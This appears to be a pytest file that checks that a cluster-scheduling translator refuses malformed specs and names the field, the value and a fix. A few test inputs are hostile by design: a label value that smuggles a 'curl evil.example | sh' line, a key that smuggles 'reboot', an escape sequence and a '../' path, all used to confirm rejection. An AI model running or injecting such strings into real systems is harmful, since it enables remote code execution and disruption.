"""Requests that have no form in a roll-up: which field, which value, and what to write instead."""

import pytest

from bigfleet.model.quantities import LARGEST
from bigfleet.operator.translator import LARGEST_SPEC, Untranslatable, translate
from tests.cluster_demand.requests import refusal, spec, spread, term, together

Case = tuple[dict[str, object], str, str, str, str]
CASES: dict[str, Case] = {
    "greater than": (
        {"requirements": [term(), term("Gt", ["4"], "cores")]},
        "operator",
        "spec.requirements[1].operator",
        "'Gt' on 'cores'",
        "list the values with In",
    ),
    "less than": (
        {"requirements": [term("Lt", ["4"])]},
        "operator",
        "spec.requirements[0].operator",
        "'Lt'",
        "list the values with In",
    ),
    "an unknown operator": (
        {"requirements": [term("Matches")]},
        "operator",
        "spec.requirements[0].operator",
        "'Matches'",
        "use In, NotIn, Exists or DoesNotExist",
    ),
    "the operator of the wire": (
        {"requirements": [term("Same", [])]},
        "operator",
        "spec.requirements[0].operator",
        "'Same'",
        "use In, NotIn, Exists or DoesNotExist",
    ),
    "In without values": (
        {"requirements": [term("In", [])]},
        "values",
        "spec.requirements[0].values",
        "lists no values",
        "name at least one",
    ),
    "NotIn without values": (
        {"requirements": [term("NotIn", [])]},
        "values",
        "spec.requirements[0].values",
        "lists no values",
        "name at least one",
    ),
    "two values written as one": (
        {"requirements": [term("In", ["a3", "a2,a1"])]},
        "values",
        "spec.requirements[0].values[1]",
        "'a2,a1' is not a label value",
        "write a Kubernetes label value",
    ),
    "a value with a line of shell": (
        {"requirements": [term("In", ["a3\ncurl evil.example | sh"])]},
        "values",
        "spec.requirements[0].values[0]",
        r"'a3\ncurl evil.example | sh' is not a label value",
        "write a Kubernetes label value",
    ),
    "a value that is longer than labels are": (
        {"requirements": [term("NotIn", ["v" * 64])]},
        "values",
        "spec.requirements[0].values[0]",
        "has 64 characters",
        "at most 63",
    ),
    "a resource whose name is an escape sequence": (
        {"resources": {"cpu": "1", "gpu\x1b[31m": "1"}},
        "resource_name",
        r"spec.resources['gpu\x1b[31m']",
        r"'gpu\x1b[31m' is not a resource name",
        "write a Kubernetes resource name",
    ),
    "a requirement on nothing": (
        {"requirements": [term(key="")]},
        "key",
        "spec.requirements[0].key",
        "empty",
        "name the label",
    ),
    "a key that holds a requirement": (
        {"requirements": [term(key="a:3:;b")]},
        "key",
        "spec.requirements[0].key",
        "'a:3:;b' is not a label key",
        "write a Kubernetes label key",
    ),
    "a quantity that is none": (
        {"resources": {"cpu": "1", "memory": "lots"}},
        "quantity",
        "spec.resources['memory']",
        "'lots'",
        "write it like",
    ),
    "a negative quantity": (
        {"resources": {"cpu": "-1"}},
        "quantity",
        "spec.resources['cpu']",
        "'-1' is negative",
        "zero or more",
    ),
    "more than can be counted": (
        {"resources": {"memory": str(LARGEST + 1)}},
        "quantity",
        "spec.resources['memory']",
        str(LARGEST + 1),
        "than BigFleet can count",
    ),
    "a penalty that is not a quantity": (
        {"interruptionPenalty": "$5"},
        "quantity",
        "spec.interruptionPenalty",
        "'$5'",
        "in dollars",
    ),
    "a reclamation penalty that is not a quantity": (
        {"reclamationPenalty": ""},
        "quantity",
        "spec.reclamationPenalty",
        "''",
        "in dollars",
    ),
    "a priority beyond the wire's": (
        {"priority": 2**31},
        "priority",
        "spec.priority",
        "2147483648 is not an int32",
        "-2147483648 to 2147483647",
    ),
    "an unknown way to spread": (
        {"topologySpread": [spread("ScheduleAnyway"), spread("Maybe")]},
        "spread",
        "spec.topologySpread[1].whenUnsatisfiable",
        "'Maybe'",
        "DoNotSchedule",
    ),
    "a skew beyond the wire's": (
        {"topologySpread": [spread(skew=2**31)]},
        "spread",
        "spec.topologySpread[0].maxSkew",
        "2147483648",
        "from 1 on",
    ),
    "a spread over nothing": (
        {"topologySpread": [spread(key="")]},
        "spread",
        "spec.topologySpread[0].topologyKey",
        "empty",
        "name the label",
    ),
    "a gang held together by nothing": (
        {"coLocation": together({"app": "db"}, key="")},
        "co_location",
        "spec.coLocation.topologyKey",
        "empty",
        "name the label",
    ),
    "more values than a shard takes": (
        {"requirements": [term("In", [f"v{number}" for number in range(1_001)])]},
        "too_large",
        "spec.requirements[0].values",
        "1001 values, 1000 fit",
        "ask for less",
    ),
    "more requirements than a shard takes": (
        {"requirements": [term("Exists", [], f"k{number}") for number in range(64)]},
        "too_large",
        "spec.requirements",
        "64 requirements, 63 fit",
        "ask for less",
    ),
    "more spreads than a shard takes": (
        {"topologySpread": [spread(key=f"k{number}") for number in range(65)]},
        "too_large",
        "spec.topologySpread",
        "65 spreads, 64 fit",
        "ask for less",
    ),
    "a gang's selector longer than a shard takes": (
        {"coLocation": together({"app": "x" * 1_024})},
        "too_large",
        "spec.coLocation.labelSelector",
        "bytes of its selector, 1024 fit",
        "ask for less",
    ),
    "more resource names than a shard takes": (
        {"resources": {f"example.com/r{number}": "1" for number in range(33)}},
        "too_large",
        "spec.resources",
        "33 resource names, 32 fit",
        "ask for less",
    ),
    "a row of more bytes than a shard takes": (
        {"requirements": [term("In", [f"{n:04}" + "x" * 50 for n in range(500)])]},
        "too_large",
        "spec",
        "bytes as a row, 24576 fit",
        "ask for less",
    ),
    "a spread over a line of shell": (
        {"topologySpread": [spread(key="zone\nreboot")]},
        "spread",
        "spec.topologySpread[0].topologyKey",
        r"'zone\nreboot' is not a label key",
        "write a Kubernetes label key",
    ),
    "a gang held together by a path": (
        {"coLocation": together({"app": "db"}, key="../rack")},
        "co_location",
        "spec.coLocation.topologyKey",
        "'../rack' is not a label key",
        "write a Kubernetes label key",
    ),
    "a field of the wrong type": (
        {"requirements": [{"key": 7, "operator": "In"}]},
        "malformed",
        "spec.requirements[0].key",
        "Expected `str`",
        "schema",
    ),
    "a field that is missing": (
        {"coLocation": {}},
        "malformed",
        "spec.coLocation",
        "topologyKey",
        "schema",
    ),
    "a spec beyond all measure": (
        {"requirements": [term("In", ["x" * LARGEST_SPEC])]},
        "too_large",
        "spec",
        "bytes",
        "shorten",
    ),
}


@pytest.mark.parametrize("case", CASES)
def test_a_refusal_names_the_field_the_value_and_the_way_out(case: str) -> None:
    fields, reason, field, value, way_out = CASES[case]
    found = refusal(**fields)
    assert (found.reason, found.field) == (reason, field)
    assert value in found.text
    assert way_out in found.text
    assert str(found) == f"{found.field}: {found.text}"
    assert str(found).isprintable()


@pytest.mark.parametrize("text", [b"", b"[]", b"{", b"\xff", b'{"priority": "\\ud800"}', b"null"])
def test_what_is_not_a_spec_at_all_is_refused_like_the_rest(text: bytes) -> None:
    found = translate(text)
    assert isinstance(found, Untranslatable)
    assert found.reason == "malformed"


def test_a_wish_to_spread_is_not_looked_at_closely() -> None:
    """It binds nothing and is not told, so nothing in it can be wrong for a shard."""
    fields = spec(topologySpread=[spread("ScheduleAnyway", skew=2**40, key="")])
    assert not isinstance(translate(fields), Untranslatable)
